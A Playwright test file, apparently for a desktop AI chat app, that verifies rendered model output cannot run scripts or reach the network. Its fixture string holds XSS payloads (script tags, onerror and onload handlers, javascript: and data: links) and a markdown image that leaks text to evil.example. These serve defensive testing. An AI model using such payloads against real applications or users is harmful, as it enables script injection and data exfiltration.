import { expect, test } from '../support/fixtures.ts';
import { ask, chooseModel, signIn } from './steps.ts';

const hostile = `
<script>window.pwned = 1</script>
<img src="https://evil.example/a.png" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe src="https://evil.example/"></iframe>

[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [vb](vbscript:x)

![stolen](https://evil.example/leak.png?text=secret)

[fine](https://example.com/page)
`;

test('model output runs nothing and fetches nothing [P3]', async ({ launch, email, readCode }) => {
  const app = await launch();
  const page = await app.window();
  await signIn(page, email, readCode);
  await chooseModel(page, 'Echo');
  const answer = await ask(page, hostile);

  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  for (const selector of [
    'script',
    'iframe',
    'svg[onload]',
    'img[src^="http"]',
    '[onerror]',
    'a[href^="javascript"]',
  ]) {
    await expect(answer.locator(selector)).toHaveCount(0);
  }
  // Raw HTML is shown as what was written; a remote image is named with its host.
  await expect(answer).toContainText('<script>window.pwned = 1</script>');
  await expect(answer).toContainText('evil.example');
  expect(await app.records('escaped-request')).toEqual([]);

  await answer.getByRole('link', { name: 'fine' }).click();
  await expect.poll(() => app.openedExternally()).toEqual(['https://example.com/page']);
  expect(page.url()).toContain('index.html');
});

test('the page itself has no way out: fetch, sockets, images, frames and windows are refused [P3]', async ({
  launch,
}) => {
  const app = await launch();
  const page = await app.window();
  await page.getByLabel('E-mail address').waitFor();
  const outcome = await page.evaluate(async () => {
    const refused = (work: Promise<unknown>) =>
      work.then(
        () => 'got out',
        () => 'refused',
      );
    const image = (source: string) =>
      new Promise((resolve, reject) => {
        const element = new Image();
        element.addEventListener('load', resolve);
        element.addEventListener('error', reject);
        element.src = source;
      });
    return {
      fetch: await refused(fetch('https://evil.example/')),
      image: await refused(image('https://evil.example/x.png')),
      socket: await refused(
        new Promise((resolve, reject) => {
          const socket = new WebSocket('wss://evil.example/');
          socket.addEventListener('open', resolve);
          socket.addEventListener('error', reject);
        }),
      ),
      window: window.open('https://evil.example/') === null ? 'refused' : 'got out',
    };
  });
  expect(outcome).toEqual({
    fetch: 'refused',
    image: 'refused',
    socket: 'refused',
    window: 'refused',
  });
  const ranInline = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.inline = true';
    document.body.append(script);
    return 'inline' in window;
  });
  expect(ranInline).toBe(false);
  await page.evaluate(() => {
    window.location.href = 'https://evil.example/';
  });
  await expect(page.getByLabel('E-mail address')).toBeVisible();
  expect(await app.records('escaped-request')).toEqual([]);
});
